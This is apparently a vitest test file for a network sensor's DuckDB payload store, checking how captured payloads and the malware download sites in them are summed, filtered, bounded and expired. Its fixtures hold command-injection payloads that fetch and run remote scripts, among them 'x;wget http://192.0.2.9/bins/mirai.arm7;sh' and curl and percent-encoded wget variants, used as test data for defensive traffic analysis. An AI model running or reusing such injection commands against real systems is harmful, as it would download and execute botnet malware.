/** Payloads and the sites in them in a real store: sums, unions, what is too much, and what retention takes. */
import { expect, test } from 'vitest';
import { openDuckDbStoresInThread } from '../../server/store/duckdb/core.ts';
import type { DuckDbOptions } from '../../server/store/duckdb/operations.ts';
import type { PayloadQuery } from '../../server/store/stores.ts';
import { countSources } from '../../shared/wire/payloads.ts';
import { ingestCommit, NOON_SECONDS } from '../support/commits.ts';
import { sourceWords } from '../support/evidence.ts';
import { testFolder } from '../support/folders.ts';
import { keyOf, payloadRow, sketchOf, type TestPayload } from '../support/payload-rows.ts';
import { randomNumbers } from '../support/random-flows.ts';

const DAY = 86_400;
const WGET = 'GET /?x=1;wget http://192.0.2.9/a.sh HTTP/1.1\r\n\r\n';

async function openStores(options: DuckDbOptions = {}) {
  const folder = await testFolder();
  const stores = await openDuckDbStoresInThread(folder, options);
  const commit = (...rows: TestPayload[]) =>
    stores.flows.commit({ ...ingestCommit({}), payloads: rows.map(payloadRow) });
  const list = async (query: Partial<PayloadQuery> = {}) =>
    await stores.payloads.list({ session: 0, order: 'packets', limit: 100, ...query });
  const texts = async (query: Partial<PayloadQuery> = {}) =>
    (await list(query)).payloads.map(({ bytes }) => Buffer.from(bytes).toString('latin1'));
  return { folder, stores, commit, list, texts };
}

const manySources = (from: number, to: number) =>
  Array.from({ length: to - from }, (_, at) => `10.0.${(from + at) >> 8}.${(from + at) & 255}`);

test('rows of one payload add up over sensors and commits, before and after they are summed up', async () => {
  const { stores, commit, list } = await openStores();
  await commit(
    { text: 'hello', packets: 3, ports: [23, 80], sources: ['203.0.113.9'], sketch: sketchOf(manySources(0, 600)) },
    { text: 'hello', packets: 1, protocol: 17 },
    { text: 'hello', packets: 1, session: 4 },
    { text: 'other', packets: 7 },
  );
  await commit({
    ...{ text: 'hello', packets: 2, sensor: 2, ports: [23, 8080], hasMorePorts: true },
    ...{ sources: ['203.0.113.8', '203.0.113.9'], sketch: sketchOf(manySources(500, 1_100)) },
    ...{ firstSeconds: NOON_SECONDS - 5, lastSeconds: NOON_SECONDS + 7 },
  });
  const expected = {
    ...{ ...keyOf('hello'), capturedBytes: 5, bytes: new Uint8Array(Buffer.from('hello')), packets: 5 },
    ...{ firstSeconds: NOON_SECONDS - 5, lastSeconds: NOON_SECONDS + 7, ports: [23, 8080, 80], hasMorePorts: true },
    sources: countSources(sketchOf(manySources(0, 1_100))),
    sourceSample: Uint32Array.from([...sourceWords('203.0.113.8'), ...sourceWords('203.0.113.9')]),
    ...{ sensors: [1, 2], sites: 0 },
  };
  for (const _ of [1, 2, 3]) {
    const { total, payloads } = await list();
    expect(total).toBe(3);
    expect(payloads.map(({ packets }) => packets)).toEqual([7, 5, 1]);
    expect(payloads[1]).toEqual(expected);
    expect(await stores.payloads.of(0, keyOf('hello'))).toEqual(expected);
    expect(await stores.payloads.of(4, keyOf('hello'))).toMatchObject({ packets: 1 });
    expect(await stores.payloads.of(0, keyOf('nowhere'))).toBeNull();
    expect(await stores.payloads.account(0)).toEqual({ present: 13, expired: 0, givenUp: 0 });
    await stores.compact();
  }
  // Within the error of 1.04 / 16, three times over.
  expect(Math.abs(expected.sources - 1_100)).toBeLessThan(1_100 * 0.2);
  await stores.close();
});

test('it is found by time, port, protocol and sites, and ordered by each figure', async () => {
  const { commit, list, texts, stores } = await openStores();
  await commit(
    { text: 'a', packets: 9, ports: [23], sketch: sketchOf(manySources(0, 5)), lastSeconds: NOON_SECONDS },
    { text: 'b', packets: 5, ports: [80, 81], sketch: sketchOf(manySources(0, 50)), lastSeconds: NOON_SECONDS + 60 },
    { text: WGET, packets: 1, protocol: 17, ports: [53], lastSeconds: NOON_SECONDS + 30 },
  );
  // Its two rows have 40 sources each, and they are the same: less than the 50 of b.
  for (const sensor of [1, 2]) await commit({ text: 'c', sensor, packets: 1, sketch: sketchOf(manySources(0, 40)) });
  for (const _ of [1, 2]) {
    expect(await texts()).toEqual(['a', 'b', 'c', WGET]);
    expect(await texts({ order: 'sources' })).toEqual(['b', 'c', 'a', WGET]);
    expect(await texts({ order: 'sources', limit: 1 })).toEqual(['b']);
    expect((await texts({ order: 'last' })).slice(0, 2)).toEqual(['b', WGET]);
    expect((await texts({ order: 'first' })).slice(0, 2)).toEqual(['b', WGET]);
    expect(await list({ limit: 2 })).toMatchObject({ total: 4, payloads: [{ packets: 9 }, { packets: 5 }] });
    expect(await texts({ port: 81 })).toEqual(['b']);
    expect(await texts({ protocol: 17 })).toEqual([WGET]);
    expect(await texts({ withSites: true })).toEqual([WGET]);
    expect(await texts({ fromSeconds: NOON_SECONDS + 1, toSeconds: NOON_SECONDS + 60 })).toEqual([WGET]);
    expect(await list({ port: 7 })).toEqual({ total: 0, payloads: [] });
    await stores.compact();
  }
  await stores.close();
});

test('a site has the sums of all payloads with it', async () => {
  const { stores, commit } = await openStores();
  const encoded = `x=${encodeURIComponent('wget http://192.0.2.9/a.sh')} y`;
  await commit(
    { text: WGET, packets: 4, sensor: 3, sketch: sketchOf(manySources(0, 30)), sources: ['203.0.113.1'] },
    {
      ...{ text: encoded, packets: 9, sketch: sketchOf(manySources(20, 60)), sources: ['203.0.113.2'] },
      firstSeconds: NOON_SECONDS - 60,
    },
    { text: `${WGET}curl -O http://192.0.2.9/b.sh `, packets: 1, lastSeconds: NOON_SECONDS + 60 },
    { text: 'nothing', packets: 50 },
  );
  await commit({ text: WGET, packets: 1, sensor: 4, sketch: sketchOf([]), sources: [] });
  for (const _ of [1, 2]) {
    const { total, sites } = await stores.payloads.sites({ session: 0, order: 'packets', limit: 10 });
    expect(total).toBe(2);
    expect(sites[0]).toEqual({
      ...{ tool: 'wget', url: 'http://192.0.2.9/a.sh', steps: ['percent'], isCut: false, packets: 15, payloads: 3 },
      ...{ firstSeconds: NOON_SECONDS - 60, lastSeconds: NOON_SECONDS + 60, sensors: [1, 3, 4] },
      sources: countSources(sketchOf([...manySources(0, 60), '203.0.113.5'])),
      sourceSample: Uint32Array.from(['203.0.113.2', '203.0.113.1', '203.0.113.5'].flatMap((s) => [...sourceWords(s)])),
      keys: [keyOf(encoded), keyOf(WGET), keyOf(`${WGET}curl -O http://192.0.2.9/b.sh `)],
    });
    expect(await stores.payloads.sites({ session: 0, order: 'last', limit: 1 })).toMatchObject({ total: 2 });
    const late = { session: 0, order: 'sources', limit: 10, fromSeconds: NOON_SECONDS + 61 } as const;
    expect(await stores.payloads.sites(late)).toEqual({ total: 0, sites: [] });
    expect(await stores.payloads.sitesOf(0, keyOf(WGET))).toMatchObject([
      { url: 'http://192.0.2.9/a.sh', packets: 15 },
    ]);
    expect(await stores.payloads.sitesOf(0, keyOf('nothing'))).toEqual([]);
    expect(await stores.payloads.of(0, keyOf(WGET))).toMatchObject({ packets: 5, sites: 1 });
    await stores.compact();
  }
  await stores.close();
});

test('the longest bytes of a payload hold, and the sites in them', async () => {
  const { stores, commit } = await openStores();
  const text = 'x;wget http://192.0.2.9/bins/mirai.arm7;sh';
  const short = text.indexOf('mirai');
  await commit({ text, keptBytes: short });
  const siteUrls = async () => (await stores.payloads.sitesOf(0, keyOf(text))).map(({ url, isCut }) => [url, isCut]);
  expect(await siteUrls()).toEqual([['http://192.0.2.9/bins/', true]]);
  await commit({ text });
  await commit({ text, keptBytes: short });
  for (const _ of [1, 2]) {
    expect(await siteUrls()).toEqual([['http://192.0.2.9/bins/mirai.arm7', false]]);
    expect(await stores.payloads.of(0, keyOf(text))).toMatchObject({
      packets: 3,
      sites: 1,
      capturedBytes: text.length,
    });
    expect((await stores.payloads.of(0, keyOf(text)))!.bytes).toHaveLength(text.length);
    await stores.compact();
  }
  await stores.close();
});

test('all is there after a stop, and what comes then is added to it', async () => {
  const { folder, stores, commit, list } = await openStores();
  // As a stranger may write it: letters of control in an address.
  await commit({ text: 'wget http://192.0.2.9/\x01\x00\xff ' }, { text: WGET, packets: 2 });
  await commit({ text: WGET, packets: 2 });
  const before = await list();
  await stores.close();
  const again = await openDuckDbStoresInThread(folder);
  const query = { session: 0, order: 'packets', limit: 10 } as const;
  expect(await again.payloads.list(query)).toEqual(before);
  await again.flows.commit({ ...ingestCommit({}), payloads: [payloadRow({ text: WGET, packets: 5 })] });
  for (const _ of [1, 2]) {
    const { payloads } = await again.payloads.list(query);
    expect(payloads.map(({ packets, sites }) => [packets, sites])).toEqual([
      [9, 1],
      [1, 1],
    ]);
    const { sites } = await again.payloads.sites(query);
    expect(sites.map(({ url, packets }) => [url, packets])).toEqual([
      ['http://192.0.2.9/a.sh', 9],
      ['http://192.0.2.9/\x01\x00\xff', 1],
    ]);
    await again.compact();
  }
  await again.close();
});

const bad: [string, Partial<ReturnType<typeof payloadRow>>][] = [
  ['a time that is no number', { firstSeconds: Number.NaN }],
  ['a last before the first', { lastSeconds: NOON_SECONDS - 1 }],
  ['a time after all', { lastSeconds: Number.POSITIVE_INFINITY }],
  ['no bytes', { bytes: new Uint8Array() }],
  ['more bytes than were captured', { capturedBytes: 1 }],
  ['more captured than there was', { wireBytes: 1 }],
  ['no packets', { packets: 0 }],
  ['packets that add up to no number', { packets: 2 ** 53 }],
  ['half a packet', { packets: 1.5 }],
  ['a digest of nine bytes', { digest: 2n ** 64n }],
  ['a digest below zero', { digest: -1n }],
  ['a protocol that is none', { protocol: 256 }],
  ['a sensor that is none', { sensor: 65_536 }],
  ['a session that is none', { session: -1 }],
  ['a port that is none', { ports: [65_536] }],
  ['more ports than a row has', { ports: [1, 2, 3, 4, 5] }],
  ['a source that is cut', { sources: new Uint32Array(3) }],
  ['a sketch that is cut', { sketch: new Uint8Array(255) }],
  ['a sketch with a rank that cannot be', { sketch: new Uint8Array(256).fill(34) }],
];

test.for(bad)('%s: nothing of the commit is stored', async ([, change]) => {
  const { stores, commit, list } = await openStores();
  await commit({ text: 'good' });
  const positions = [{ sensor: 1, epoch: 1, sequence: 9 }];
  const payloads = [payloadRow({ text: 'also good' }), { ...payloadRow({ text: 'bad' }), ...change }];
  await expect(stores.flows.commit({ ...ingestCommit({ positions }), payloads })).rejects.toThrow(RangeError);
  expect(await stores.catalog.position(1, 1)).toBe(-1);
  expect((await list()).total).toBe(1);
  await commit({ text: 'also good' });
  expect((await list()).total).toBe(2);
  await stores.close();
});

test('thousands of payloads in many rows are as if each had come in one', async () => {
  const { stores, commit } = await openStores({ payloadLimits: { rows: 4_600, actOn: 1_000_000 } });
  const random = randomNumbers();
  const below = (most: number) => Math.floor(random() * most);
  const model = new Map<
    string,
    { packets: number; first: number; last: number; sensors: Set<number>; from: Set<string> }
  >();
  for (let round = 0; round < 3; round++) {
    const rows = Array.from({ length: 3_000 }, () => {
      const text = `payload ${below(4_500)}`;
      const [first, packets, sensor, source] = [
        NOON_SECONDS + below(1_000),
        1 + below(9),
        1 + below(3),
        `10.0.0.${below(99)}`,
      ];
      const last = first + below(100);
      const known = model.get(text) ?? { packets: 0, first, last, sensors: new Set<number>(), from: new Set<string>() };
      model.set(text, known);
      known.packets += packets;
      known.first = Math.min(known.first, first);
      known.last = Math.max(known.last, last);
      known.sensors.add(sensor);
      known.from.add(source);
      return { text, packets, sensor, firstSeconds: first, lastSeconds: last, sources: [source] };
    });
    await commit(...rows);
    if (round < 2) await stores.compact();
  }
  const present = [...model.values()].reduce((sum, { packets }) => sum + packets, 0);
  for (const _ of [1, 2]) {
    const { total, payloads } = await stores.payloads.list({ session: 0, order: 'packets', limit: 500 });
    expect(total).toBe(model.size);
    expect(payloads).toHaveLength(500);
    for (const payload of payloads) {
      const text = Buffer.from(payload.bytes).toString();
      const known = model.get(text)!;
      expect(payload).toMatchObject({
        ...{ ...keyOf(text), packets: known.packets, firstSeconds: known.first, lastSeconds: known.last },
        sensors: [...known.sensors].sort(),
        sources: countSources(sketchOf([...known.from])),
      });
    }
    // More rows than the limit, and fewer payloads: nothing is given up.
    expect(await stores.payloads.account(0)).toEqual({ present, expired: 0, givenUp: 0 });
    await stores.compact();
  }
  await stores.close();
});

test('a flood of payloads seen once pushes out neither what came often nor what has sites', async () => {
  const { stores, commit, texts } = await openStores({ payloadLimits: { rows: 10, actOn: 1_000_000 } });
  await commit({ text: 'often', packets: 40 }, { text: WGET }, { text: 'twice', packets: 2 });
  const flood = (from: number, to: number) =>
    commit(
      ...Array.from({ length: to - from }, (_, at) => ({
        text: `r${from + at}`,
        lastSeconds: NOON_SECONDS + from + at,
      })),
    );
  await flood(0, 1_000);
  await stores.compact();
  const kept = (from: number, count: number) => Array.from({ length: count }, (_, at) => `r${from + at}`);
  expect((await texts()).toSorted()).toEqual(['often', 'twice', WGET, ...kept(993, 7)].toSorted());
  expect(await stores.payloads.account(0)).toEqual({ present: 50, expired: 0, givenUp: 993 });
  // Again, and again: what is there stays, and the sums are exact.
  for (let from = 1_000; from < 5_000; from += 1_000) {
    await flood(from, from + 1_000);
    await stores.compact();
  }
  expect((await texts()).toSorted()).toEqual(['often', 'twice', WGET, ...kept(4_993, 7)].toSorted());
  expect(await stores.payloads.account(0)).toEqual({ present: 50, expired: 0, givenUp: 4_993 });
  // What was given up begins anew, with its bytes.
  await commit({ text: 'r0', packets: 3 });
  expect(Buffer.from((await stores.payloads.of(0, keyOf('r0')))!.bytes).toString()).toBe('r0');
  await stores.close();
});

test('a flood of made-up sites gets half of the room, and no more', async () => {
  const { stores, commit, list } = await openStores({ payloadLimits: { rows: 10, actOn: 1_000_000 } });
  for (let at = 0; at < 6; at++) await commit({ text: `plain ${at}`, lastSeconds: NOON_SECONDS - at });
  for (let at = 0; at < 100; at++)
    await commit({ text: `wget http://192.0.2.9/${at} `, lastSeconds: NOON_SECONDS - 60 });
  await stores.compact();
  expect(await list({ withSites: true })).toMatchObject({ total: 5 });
  expect(await list()).toMatchObject({ total: 10 });
  expect(await stores.payloads.account(0)).toEqual({ present: 10, expired: 0, givenUp: 96 });
  await stores.close();
});

test('bytes and sites have bounds of their own', async () => {
  const { stores, commit, list } = await openStores({ payloadLimits: { bytes: 200, sites: 4, actOn: 1_000_000 } });
  for (let at = 0; at < 8; at++)
    await commit({ text: `wget http://a${at}.example/x `, lastSeconds: NOON_SECONDS - at, packets: 1 });
  await commit({ text: 'x'.repeat(40), packets: 1, lastSeconds: NOON_SECONDS - 100 }, { text: 'y'.repeat(300) });
  await stores.compact();
  expect(await stores.payloads.sites({ session: 0, order: 'last', limit: 10 })).toMatchObject({ total: 4 });
  const bytes = (await list()).payloads.reduce((sum, payload) => sum + payload.bytes.length, 0);
  expect(bytes).toBeLessThanOrEqual(200);
  const { present, givenUp } = await stores.payloads.account(0);
  expect(present + givenUp).toBe(10);
  await stores.close();
});

test('it is summed up by itself when enough rows or bytes have gathered', async () => {
  for (const payloadLimits of [
    { rows: 2, actOn: 4 },
    { bytes: 4, rows: 2, actOn: 1_000 },
  ]) {
    const { stores, commit } = await openStores({ payloadLimits });
    for (let age = 0; age < 4; age++) await commit({ text: `${age}x`, lastSeconds: NOON_SECONDS - age });
    await expect.poll(() => stores.payloads.of(0, keyOf('3x'))).toBeNull();
    await stores.compact();
    expect(await stores.payloads.account(0)).toEqual({ present: 2, expired: 0, givenUp: 2 });
    await stores.close();
  }
});

test('it leaves with the flows of its session: hours of live ones, and whole sessions of others', async () => {
  const retention = { flowDays: 2, flowGigabytes: 0, sessionDays: 5 };
  const { folder, stores, commit } = await openStores({ retention });
  const { id } = await stores.catalog.session({ kind: 'file', name: 'a.pcap', sensor: 1, epoch: 5 });
  const now = Math.floor(Date.now() / 1000);
  const old = now - 3 * DAY;
  await stores.flows.commit(
    ingestCommit({ flows4: [{ seconds: old }, { seconds: now - DAY }, { seconds: old, session: id }] }),
  );
  await commit(
    { text: WGET, packets: 5, lastSeconds: old },
    { text: 'again', packets: 7, lastSeconds: old },
    // Seen again the next day: what is old about it stays with it.
    { text: 'again', packets: 8, lastSeconds: now - DAY },
    { text: WGET, packets: 9, lastSeconds: old, session: id },
  );
  await stores.seal(true);
  await stores.retain();
  expect(await stores.payloads.account(0)).toEqual({ present: 15, expired: 5, givenUp: 0 });
  expect(await stores.payloads.of(0, keyOf(WGET))).toBeNull();
  expect(await stores.payloads.sites({ session: 0, order: 'last', limit: 9 })).toEqual({ total: 0, sites: [] });
  expect(await stores.payloads.of(id, keyOf(WGET))).toMatchObject({ packets: 9, sites: 1 });
  // What comes again begins anew, with its bytes and sites.
  await commit({ text: WGET, lastSeconds: now });
  expect(await stores.payloads.of(0, keyOf(WGET))).toMatchObject({ packets: 1, sites: 1 });
  await stores.close();
  const later = await openDuckDbStoresInThread(folder, { retention, clock: () => Date.now() + 6 * DAY * 1000 });
  await later.retain();
  expect(await later.payloads.account(id)).toEqual({ present: 0, expired: 9, givenUp: 0 });
  expect(await later.payloads.sites({ session: id, order: 'last', limit: 9 })).toEqual({ total: 0, sites: [] });
  await later.close();
});
